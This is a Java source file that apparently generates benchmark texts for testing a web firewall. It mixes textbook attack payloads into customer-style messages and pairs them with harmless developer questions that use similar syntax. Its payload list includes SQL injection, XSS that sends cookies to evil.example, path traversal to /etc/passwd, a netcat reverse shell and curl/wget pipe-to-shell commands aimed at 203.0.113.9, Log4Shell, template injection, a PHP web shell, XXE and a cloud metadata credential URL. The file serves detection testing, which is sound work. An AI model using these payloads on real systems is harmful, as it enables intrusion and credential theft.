package dev.redoubt.bench;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Messages with web attacks in them, and what developers ask about the same languages. The attacks
 * are the textbook ones that every web firewall is made for.
 */
final class WebTexts {
  private static final List<String> NAMES =
      List.of("anna", "orders", "invoice", "kunde", "report", "profile", "garden", "lamp");

  /** {@code %1$s} is a name, {@code %2$d} a number. */
  private static final List<String> ATTACKS =
      List.of(
          "%1$s' OR '%2$d'='%2$d",
          "%1$s' OR %2$d=%2$d -- ",
          "%2$d UNION SELECT username, password FROM users--",
          "%1$s'; DROP TABLE %1$s; --",
          "%2$d' AND SLEEP(5)-- -",
          "%1$s') UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#",
          "'; EXEC xp_cmdshell('net user %1$s'); --",
          "%2$d AND 1=CONVERT(int,(SELECT @@version))",
          "<script>alert('%1$s')</script>",
          "<script src=//evil.example/%2$d.js></script>",
          "<img src=x onerror=alert(%2$d)>",
          "<svg/onload=fetch('//evil.example/'+document.cookie)>",
          "<a href=\"javascript:alert(document.domain)\">%1$s</a>",
          "\"><iframe src=javascript:alert(%2$d)>",
          "<body onload=eval(atob('YWxlcnQoMSk='))>",
          "../../../../etc/passwd",
          "..%%2f..%%2f..%%2f..%%2fetc%%2fshadow",
          "..\\..\\..\\windows\\win.ini",
          "/var/www/%1$s/../../../../proc/self/environ",
          "file:///etc/passwd",
          "%1$s; cat /etc/passwd",
          "%1$s | nc 203.0.113.9 4444 -e /bin/sh",
          "$(curl http://203.0.113.9/%1$s.sh | sh)",
          "`wget http://203.0.113.9/%2$d -O- | bash`",
          "%1$s && rm -rf /tmp/%2$d",
          "() { :;}; /bin/bash -c 'id'",
          "${jndi:ldap://203.0.113.9:1389/%1$s}",
          "{{%2$d*%2$d}}",
          "${7*%2$d}",
          "{{''.__class__.__mro__[1].__subclasses__()}}",
          "<?php system($_GET['%1$s']); ?>",
          "*)(uid=*))(|(uid=*",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
          "http://169.254.169.254/latest/meta-data/iam/security-credentials/");

  private static final List<String> CARRIERS =
      List.of(
          "%s",
          "Please look up the order of %s for me.",
          "My name is %s",
          "Search for %s",
          "Where is my parcel? The number is %s and it should have come on Monday.",
          "Change my delivery note to: %s");

  private static final List<String> QUESTIONS =
      List.of(
          "Why does SELECT name, price FROM %1$s WHERE price > %2$d ORDER BY name return nothing?",
          "How do I join %1$s and customers in SQL so that I keep rows without a match? I have"
              + " SELECT * FROM %1$s LEFT JOIN customers ON %1$s.id = customers.id;",
          "What is the difference between DELETE FROM %1$s and TRUNCATE TABLE %1$s?",
          "Can you explain UNION and UNION ALL? I want the names from %1$s and from archive_%2$d in"
              + " one list.",
          "My page shows <h1>%1$s</h1> twice. Where should I put <script src=\"%1$s.js\"></script>,"
              + " in the head or at the end of the body?",
          "How can I centre <div class=\"%1$s\"><img src=\"%1$s.png\" alt=\"\"></div> with CSS?",
          "Is <a href=\"#\" onclick=\"toggle(%2$d)\">more</a> bad style? What should I write"
              + " instead?",
          "What does tar -xzf %1$s.tar.gz -C /opt/%1$s do, and do I need sudo?",
          "cp: cannot stat '../%1$s/config.yaml': No such file or directory. I am in"
              + " /home/me/%1$s/src. What is wrong?",
          "How do I count the lines with %2$d in all log files? I tried cat *.log | grep %2$d | wc"
              + " -l",
          "Which permissions should /etc/%1$s.conf have on a Debian server?",
          "In bash, what is the difference between $(date) and `date`? I use it as NAME=%1$s-$(date"
              + " +%%F)",
          "Please write a Python function that reads %1$s.csv with csv.DictReader and sums the"
              + " column amount_%2$d.",
          "My Jinja template shows {{ %1$s.total }} as empty, but {{ %1$s.count }} is %2$d. Why?",
          "Why is if (a = %2$d) { return; } always true in C?",
          "How do I escape a quote in SQL? INSERT INTO %1$s VALUES (%2$d, 'O''Brien') works, but I"
              + " don't see why.",
          "Is it safe to run npm install && npm run build in the folder %1$s, or should I use npm"
              + " ci?",
          "What does import os; os.path.join('%1$s', '..', 'data') give on Windows?",
          "Explain this regular expression: ^[a-z]{2,%2$d}\\.(com|org)$",
          "Kann ich in PHP mit echo $_SESSION['%1$s']; den Namen ausgeben?");

  private WebTexts() {}

  /** Draws attacks, each payload equally often. */
  static List<String> attacks(Random random, int count) {
    var texts = new ArrayList<String>();
    while (texts.size() < count) {
      for (String attack : ATTACKS) {
        String carrier = CARRIERS.get(random.nextInt(CARRIERS.size()));
        texts.add(carrier.formatted(filled(attack, random)));
      }
    }
    return List.copyOf(texts.subList(0, count));
  }

  /** Draws questions, each equally often. */
  static List<String> questions(Random random, int count) {
    var texts = new ArrayList<String>();
    while (texts.size() < count) {
      QUESTIONS.forEach(question -> texts.add(filled(question, random)));
    }
    return List.copyOf(texts.subList(0, count));
  }

  private static String filled(String text, Random random) {
    return text.formatted(NAMES.get(random.nextInt(NAMES.size())), 2 + random.nextInt(90));
  }
}
